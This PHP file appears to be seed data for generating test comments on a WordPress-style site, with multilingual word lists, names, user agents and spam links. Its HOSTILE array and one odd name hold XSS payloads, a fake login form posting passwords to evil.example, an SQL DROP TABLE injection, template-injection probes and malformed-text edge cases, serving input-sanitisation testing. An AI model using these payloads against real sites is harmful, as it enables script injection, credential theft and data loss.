<?php
// What the seeded comments are made of: words of several scripts, names, and things that an
// import or a plugin can leave in a database although no reader could have posted them.

const WORDS = array(
    'english' => 'the a of and to in is that it for was on are with as this have from not but what all were when
        we there can an your which their said if do will each about how up out them then she many some so these
        would other into has more her two like him see time could no make than first been its who now people my
        made over did down only way find use may water long little very after words called just where most know
        council budget cyclists traffic school weather referee article author editor nonsense honestly agree
        government source reader comment again never always nobody somebody problem answer street mayor tax',
    'german'  => 'der die das und ist nicht ein eine mit für auf den dem von zu wir sie haben wird über größere
        Straße Maß heißt grün schön Gemeinde Bürger Zeitung Meinung wirklich natürlich überhaupt weiß müssen',
    'polish'  => 'i w na się nie że to jest do z jak ale już tylko przez może być więc pieniądze źródło łatwo
        gdzie wszyscy władza szkoła miasto ludzie zawsze nigdy część',
    'russian' => 'и в не на что я с он как это по но они мы весь за был так же вы бы от меня ещё нет город люди
        власть деньги школа правда всегда никогда почему новости',
    'greek'   => 'και το να του η της με που για είναι στο δεν θα από τα ένα πόλη άνθρωποι σχολείο αλήθεια',
    'arabic'  => 'في من على أن إلى هذا التي كان عن مع ما لا كل هذه المدينة الناس الحكومة المدرسة الحقيقة دائما أبدا',
    'hindi'   => 'है के में की और का को से यह पर नहीं लोग शहर सरकार स्कूल सच हमेशा कभी क्यों खबर',
    'chinese' => '我们的城市 政府 新闻 评论 为什么 学校 大家 总是 从来没有 真的吗 预算 问题 市长 完全同意',
    'emoji'   => '😀 👍🏽 🤦‍♀️ 🏳️‍🌈 👨‍👩‍👧‍👦 really 🇵🇱 ok ❤️ no 🙈 wow',
);

const FIRST_NAMES = array( 'Aaliyah', 'Bruno', 'Chidi', 'Dorota', 'Émile', 'Fatima', 'Gustav', 'Hana', 'Ivan', 'Jamila',
    'Kenji', 'Łucja', 'Mateo', 'Nadia', 'Oisín', 'Priya', 'Rahel', 'Saoirse', 'Tomáš', 'Vanja', 'Юлия', '小明' );

const LAST_NAMES = array( 'Abadi', 'Bergström', 'Castro', "D'Angelo", 'Endo', 'Ferreira', 'Goldberg', 'Horváth', 'Iyer',
    'Kowalska', 'Lefèvre', 'Müller', 'Nwosu', 'Okafor', 'Papadopoulos', 'Quist', 'Ramos', 'Šimić', 'Tran', 'Zhang' );

const ODD_NAMES = array( '', '<b>Bold</b>', 'AT&amp;T fan', "Line\nbreak", "\u{202E}drawkcab", '"quoted"', '<script>alert(1)</script>' );

const AGENTS = array(
    'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
    'Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36',
    '',
);

const LINKS = array(
    ' https://shop.example/offer/%d',
    ' <a href="https://pills.example/%d" rel="nofollow ugc">cheap pills</a>',
    ' see www.news.example/%d and write to me@mail.test',
);

const MARKUP = array(
    '<blockquote>%s</blockquote>',
    '<em>%s</em>',
    '<strong>Listen:</strong> %s <code>a &lt; b &amp;&amp; c</code>',
    '%s <del datetime="2026-01-01">not this</del>',
);

define( 'HOSTILE', array(
    '<script>fetch("/wp-json/")</script>What a lovely article',
    'look <img src="x" onerror="alert(document.domain)"> here',
    '<a href="javascript:alert(1)" onmouseover="alert(2)">the source</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">the source</a>',
    '<svg onload="alert(1)"><circle r="9"/></svg>',
    '<iframe src="http://127.0.0.1:9/"></iframe><object data="x"></object>',
    '<style>body{display:none}</style><div style="position:fixed;inset:0;background:red">overlay</div>',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    '<b><i><blockquote>never closed',
    '</p></div></body></html>after the end',
    '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;lt;b&amp;amp;gt;',
    "\u{202E}txet desrever\u{202C} \u{200B}zero\u{FEFF}width\u{2066}isolate",
    "'; DROP TABLE comments; -- \\ %s {0} \${x} {{7*7}}",
    'Z' . str_repeat( "\u{0300}\u{0323}", 150 ) . 'algo',
    str_repeat( 'unbroken', 400 ),
    str_repeat( '<blockquote>', 80 ) . 'deep' . str_repeat( '</blockquote>', 80 ),
    "tab\tand\r\nreturn\u{0007}bell",
) );
